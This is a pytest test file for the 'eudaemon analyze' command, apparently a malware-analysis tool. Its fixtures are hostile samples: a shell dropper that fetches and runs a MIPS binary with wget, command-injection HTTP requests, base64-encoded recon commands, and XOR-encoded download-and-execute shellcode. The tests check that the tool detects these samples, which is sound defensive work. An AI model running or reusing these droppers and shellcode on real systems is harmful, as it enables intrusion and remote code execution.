"""`eudaemon analyze`: what people and machines are told of a file."""

from __future__ import annotations

import hashlib
import json
from base64 import b64encode
from io import BytesIO, TextIOWrapper
from pathlib import Path
from typing import Any

import pytest

from eudaemon.cli import main
from payload.shellcode.assembling import under_xor
from payload.shellcode.shellcodes import SHELLCODES, download_and_execute

SCRIPT = b"#!/bin/sh\nwget http://45.9.8.7/x.mips; chmod 777 x.mips; ./x.mips\necho \x1b[2J\n"


def test_a_script_for_machines(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "x.sh"
    path.write_bytes(SCRIPT)
    assert main(["analyze", "--json", str(path)]) == 0
    found = json.loads(capsys.readouterr().out)
    assert (found["format"], found["size"]) == ("script", len(SCRIPT))
    assert found["sha256"] == hashlib.sha256(SCRIPT).hexdigest()
    assert found["downloads"] == [{"url": "http://45.9.8.7/x.mips", "tool": "wget", "name": "x.mips"}]
    assert found["rules"] == ["Script_Fetches_And_Runs"]
    assert found["fuzzy"].count(":") == 2


def test_a_script_for_people(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "x.sh"
    path.write_bytes(SCRIPT)
    assert main(["analyze", str(path)]) == 0
    text = capsys.readouterr().out
    assert text.startswith("POSIX shell script\n")
    assert "would download:\n  http://45.9.8.7/x.mips  (wget, as x.mips)\n" in text
    assert "\x1b" not in text  # a sample does not get to speak to the terminal


def test_layers_are_shown(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "request"
    path.write_bytes(b"GET /?c=wget%20http%3A%2F%2F192.168.0.9%2Fx HTTP/1.1\r\n\r\n")
    assert main(["analyze", str(path)]) == 0
    text = capsys.readouterr().out
    assert "decoded:\n  GET /?c=wget http://192.168.0.9/x HTTP/1.1" in text
    assert "names a private address:\n  http://192.168.0.9/x\n" in text


def examined(data: bytes, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Any:
    path = tmp_path / "sample"
    path.write_bytes(data)
    assert main(["analyze", "--json", str(path)]) == 0
    return json.loads(capsys.readouterr().out)


def test_a_program_that_names_urls_would_download_nothing(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    program = (
        b"\x7fELF\x02\x01\x01" + bytes(60) + b"GNU_coreutils_translations/share/locale\0https://www.gnu.org/gethelp/\0"
    )
    found = examined(program, tmp_path, capsys)
    assert (found["downloads"], found["urls"], found["layers"]) == ([], ["https://www.gnu.org/gethelp/"], [])
    found = examined(program + b"wget http://45.9.8.7/x -O /tmp/x\0", tmp_path, capsys)
    assert [d["url"] for d in found["downloads"]] == ["http://45.9.8.7/x"]


def test_words_that_could_be_base64_are_no_layers(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    request = (b"GET /a?x=;wget+http://192.0.2.6/a+-O+/tmp/a HTTP/1.1\r\nHost: h\r\nAccept: application/xhtml\r\n"
               b"If-None-Match: d41d8cd98f00b204e9800998ecf8427e\r\nX: AdministratorPassword\r\n\r\n")  # fmt: skip
    found = examined(request, tmp_path, capsys)
    assert found["layers"] == []
    assert [(d["url"], d["tool"]) for d in found["downloads"]] == [("http://192.0.2.6/a", "wget")]
    assert found["urls"] == []


@pytest.mark.parametrize(
    ("inner", "shown"),
    [(b"id; uname -a; whoami", "id; uname -a; whoami"), (b"\x7fELF\x01\x01\x01" + bytes(60), "(ELF 32-bit")],
)
def test_base64_that_is_meant_is_a_layer(
    inner: bytes, shown: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (layer,) = examined(b"echo " + b64encode(inner) + b"\n", tmp_path, capsys)["layers"]
    assert layer.startswith(shown)


def test_a_shellcode_for_people(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "code"
    path.write_bytes(under_xor(download_and_execute(), 0x99))
    assert main(["analyze", str(path)]) == 0
    text = capsys.readouterr().out
    assert (
        "shellcode: x86, from byte 0; exits (ExitThread)\ndoes:\n  downloads http://203.0.113.7:8080/a.exe to" in text
    )
    assert "xor byte ptr [edi], 0x99" in text
    assert '; WinExec("c:\\a.exe", 0) = 0x21' in text
    assert "would download, as machine code:\n  http://203.0.113.7:8080/a.exe  (shellcode)\n" in text


def test_a_shellcode_for_machines(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    found = examined(SHELLCODES["linux x86-64 command"][1](), tmp_path, capsys)["shellcode"]
    assert found["emulated"]
    assert [b["kind"] for b in found["behaviours"]] == ["executes"]
    assert found["report"]["architecture"] == "x86-64"
    # What the command would fetch is found as in a script.
    assert found["downloads"] == [{"url": "http://203.0.113.7/x.sh", "tool": "wget", "name": "x.sh"}]


def test_without_unicorn_signatures_are_left(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("eudaemon.payload.shellcode.examine.find_spec", lambda _: None)
    path = tmp_path / "code"
    path.write_bytes(under_xor(download_and_execute(), 0x99))
    assert main(["analyze", str(path)]) == 0
    text = capsys.readouterr().out
    assert "shellcode signatures (unicorn is not installed: nothing was emulated):\n" in text
    assert "downloads http://203.0.113.7:8080/a.exe" in text


def test_a_program_is_no_shellcode(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert examined(b"\x7fELF\x02\x01\x01" + bytes(60), tmp_path, capsys)["shellcode"] == {}


def test_standard_input(monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setattr("sys.stdin", TextIOWrapper(BytesIO(SCRIPT)))
    assert main(["analyze", "-"]) == 0
    assert capsys.readouterr().out.startswith("POSIX shell script\n")


def test_an_empty_file_is_one(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "empty"
    path.touch()
    assert main(["analyze", str(path)]) == 0
    assert capsys.readouterr().out.startswith("empty file\n")


@pytest.mark.parametrize("name", ["nothing", "."])
def test_a_file_that_cannot_be_read_is_named(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["analyze", str(tmp_path / name)]) == 2
    said = capsys.readouterr()
    assert said.out == ""
    assert said.err.startswith(f"eudaemon: {tmp_path / name}: ")
